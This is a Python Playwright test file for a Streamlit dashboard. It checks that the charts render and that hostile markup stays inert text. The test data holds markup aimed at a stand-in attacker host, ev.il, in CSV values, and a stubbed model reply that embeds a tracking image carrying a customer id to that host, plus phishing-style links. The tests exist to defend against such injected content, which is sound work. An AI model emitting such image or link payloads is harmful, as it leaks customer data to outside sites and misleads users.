"""The real-browser tests: `streamlit run` the dashboard, upload the sample in headless Chromium, see charts; and
see that text from a file (a web address, an image, an e-mail address in a customer id), and an image or a link a
model wrote in an explanation, show as text.

It drives Debian's Chromium (`/usr/bin/chromium`, the `chromium` package) through Playwright with an explicit
executable path, so Playwright's own browser download is never needed. The screenshot it saves to
`tests/artifacts/` shows what a user sees after the upload.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from dashboard import sources
from tests.agent.model_stubs import OpenAIStub
from tests.conftest import seed_example
from tests.dashboard.servers import free_port

REPO = Path(__file__).resolve().parents[2]
ARTIFACTS = REPO / "tests" / "artifacts"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
                 "--disable-extensions", "--no-first-run"]

# The text of every metric value (and label) the browser shows cut off with an ellipsis: wider than its box.
CUT_OFF_METRICS = """() => Array.from(document.querySelectorAll(
    '[data-testid="stMetricValue"] .stMarkdownEllipsis, [data-testid="stMetricLabel"] .stMarkdownEllipsis'))
    .filter(e => e.scrollWidth > e.clientWidth + 1).map(e => e.textContent)"""


@contextmanager
def _streamlit(env: Mapping[str, str]) -> Iterator[str]:
    """The dashboard served by `streamlit run` on a free port, with the in-process agent configured by `env`."""
    port = free_port()
    env = {**os.environ, "STREAMLIT_BROWSER_GATHER_USAGE_STATS": "false", "SEGMENT_BACKEND": "inprocess",
           "SEGMENT_AS_OF": sources.sample().as_of.isoformat(), **env}
    process = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "dashboard/streamlit_app.py", "--server.headless", "true",
         "--server.address", "127.0.0.1", "--server.port", str(port)],
        cwd=REPO, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as response:
                if response.read() == b"ok":
                    break
        except OSError:
            pass
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            raise AssertionError(f"streamlit did not start: {process.communicate()[1].decode()[-2000:]}")
        time.sleep(0.2)
    try:
        yield url
    finally:
        process.terminate()
        process.wait(timeout=15)


@pytest.fixture(scope="module")
def dashboard_url() -> Iterator[str]:
    """The dashboard with the in-process agent and no model (template explanations)."""
    with _streamlit({}) as url:
        yield url


def _uploaded(browser: Browser, url: str, path: Path, height: int) -> Page:
    """A new page of the dashboard at ``url`` with the file at ``path`` uploaded on the Cohort page."""
    page = browser.new_page(viewport={"width": 1440, "height": height})
    page.goto(url, wait_until="domcontentloaded")
    expect(page.get_by_text("No cohort loaded yet.")).to_be_visible(timeout=30_000)
    uploader = page.locator('[data-testid="stFileUploader"]').filter(has_text="Upload a cohort")
    uploader.locator('input[type="file"]').set_input_files(str(path))
    return page


@pytest.mark.browser
def test_uploading_the_sample_shows_the_charts(dashboard_url: str) -> None:
    sample = sources.sample()
    customers = sources.read(sample.file).report.customers
    ARTIFACTS.mkdir(exist_ok=True)
    screenshot = ARTIFACTS / "dashboard-cohort.png"

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            # Streamlit scrolls inside its own container, so a tall window is what puts the page in the picture.
            page = _uploaded(browser, dashboard_url, sources.SAMPLE_DIR / sample.file.name, height=3400)

            # Eight charts on the Segments tab; the Win-back tab's chart is drawn but hidden behind its tab.
            charts = page.locator('[data-testid="stPlotlyChart"]').filter(visible=True)
            expect(charts.first).to_be_visible(timeout=90_000)
            expect(charts).to_have_count(8, timeout=30_000)
            expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible(timeout=30_000)
            metrics = page.locator('[data-testid="stMetricValue"]')
            expect(metrics.first).to_have_text(f"{customers:,}", timeout=30_000)
            page.wait_for_timeout(1500)  # let Plotly finish drawing before the picture
            page.screenshot(path=str(screenshot), full_page=True)
            for index in range(8):
                expect(charts.nth(index)).to_be_visible()
            # A narrow window (the sidebar still open) must wrap the KPI cards, not cut their values off ("198,09…").
            page.set_viewport_size({"width": 800, "height": 1600})
            page.wait_for_timeout(500)
            cut_off = page.evaluate(CUT_OFF_METRICS)
        finally:
            browser.close()

    assert screenshot.stat().st_size > 50_000
    assert cut_off == []


@pytest.mark.browser
def test_addresses_in_a_files_values_are_no_links_or_images(dashboard_url: str, tmp_path: Path) -> None:
    # A customer whose only row is rejected is named in a warning: its id is what a hostile export would hold.
    hostile = "https://ev.il www.ev.il ![](https://ev.il/p.png) a@ev.il"  # short: a warning quotes 60 characters
    upload = tmp_path / "orders.csv"
    upload.write_text(f"customer_id,order_date,product_id,amount\nC1,2025-11-05,P,10\n{hostile},someday,P,10\n",
                      encoding="utf-8")

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            page = _uploaded(browser, dashboard_url, upload, height=2400)
            # The import report holds it (folded away until opened: present, not visible).
            warning = page.locator('[data-testid="stAlert"]').filter(has_text="only rejected rows")
            expect(warning).to_have_count(1, timeout=90_000)
            shown = (warning.text_content() or "").replace("\u2060", "")
            links = page.locator('a[href*="ev.il"]').count()
            images = page.locator('img[src*="ev.il"]').count()
        finally:
            browser.close()

    assert hostile in shown
    assert (links, images) == (0, 0)


@pytest.mark.browser
def test_markup_in_a_files_names_is_text_in_the_charts(dashboard_url: str, tmp_path: Path) -> None:
    # Plotly renders links, bold and line breaks in labels, ticks, legends and hover texts: a product, category
    # or region name from the file must show as written, on the Segments and Win-back tabs and the Regions page.
    link = '<a href="https://ev.il/login">Serum</a>'
    quoted = link.replace('"', '""')
    rows = [f'C1,{day},P1,"{quoted}",<b>SKIN</b>CARE,20,"<a href=""https://ev.il/r"">Doğu</a>"'
            for day in ("2025-10-01", "2025-10-11", "2025-10-21", "2025-10-31")]
    upload = tmp_path / "orders.csv"
    upload.write_text("customer_id,order_date,product_id,product_name,category,amount,region\n"
                      + "\n".join([*rows, "C2,2026-02-01,P2,Cream,MAKEUP,30,Ege"]) + "\n", encoding="utf-8")
    anchors = "() => document.querySelectorAll('.js-plotly-plot a').length"
    ticks = "() => Array.from(document.querySelectorAll('.js-plotly-plot .ytick text, .js-plotly-plot .xtick text'))" \
            ".map(t => t.textContent)"

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            page = _uploaded(browser, dashboard_url, upload, height=3000)
            expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible(timeout=90_000)
            page.get_by_role("tab", name="Win-back").click()
            expect(page.locator(".js-plotly-plot .ytick text").filter(has_text="Serum").first).to_be_attached(
                timeout=30_000)
            cohort_anchors, cohort_ticks = page.evaluate(anchors), page.evaluate(ticks)
            page.get_by_role("link", name="Regions").click()
            expect(page.locator(".js-plotly-plot .xtick text").filter(has_text="Doğu").first).to_be_attached(
                timeout=60_000)
            regions_anchors, regions_ticks = page.evaluate(anchors), page.evaluate(ticks)
            links = page.locator('a[href*="ev.il"]').count()
        finally:
            browser.close()

    assert (cohort_anchors, regions_anchors, links) == (0, 0, 0)
    assert {"<b>SKIN</b>CARE", f"{link} (P1)"} <= set(cohort_ticks)
    assert '<a href="https://ev.il/r">Doğu</a>' in regions_ticks


@pytest.mark.browser
def test_a_models_image_and_link_are_text_in_the_explanation() -> None:
    # What customer data could steer a model into writing: an image that carries the customer's id to another
    # site the moment the page shows it, and a link.
    hostile = "Explained: ![pixel](https://ev.il/p.png?d=C-1001) [Renew](https://ev.il/login) <img src=https://ev.il/i>"
    with OpenAIStub(replies=[hostile]) as model, _streamlit({
        "SEGMENT_MODEL_PROVIDER": "openai", "SEGMENT_OPENAI_BASE_URL": model.base_url, "SEGMENT_OPENAI_MODEL": "m",
    }) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1440, "height": 2400})
            page.goto(f"{url}/customer", wait_until="domcontentloaded")
            page.get_by_role("tab", name="Paste seed JSON").click(timeout=30_000)
            page.get_by_role("textbox", name="Seed JSON").fill(json.dumps(seed_example("example-request")))
            page.get_by_role("button", name="Analyse JSON").click()
            explanation = page.get_by_text("Explained:")
            expect(explanation).to_be_visible(timeout=60_000)
            shown = (explanation.text_content() or "").replace("\u2060", "")
            links = page.locator('a[href*="ev.il"]').count()
            images = page.locator('img[src*="ev.il"]').count()
        finally:
            browser.close()

    assert shown == hostile
    assert (links, images) == (0, 0)
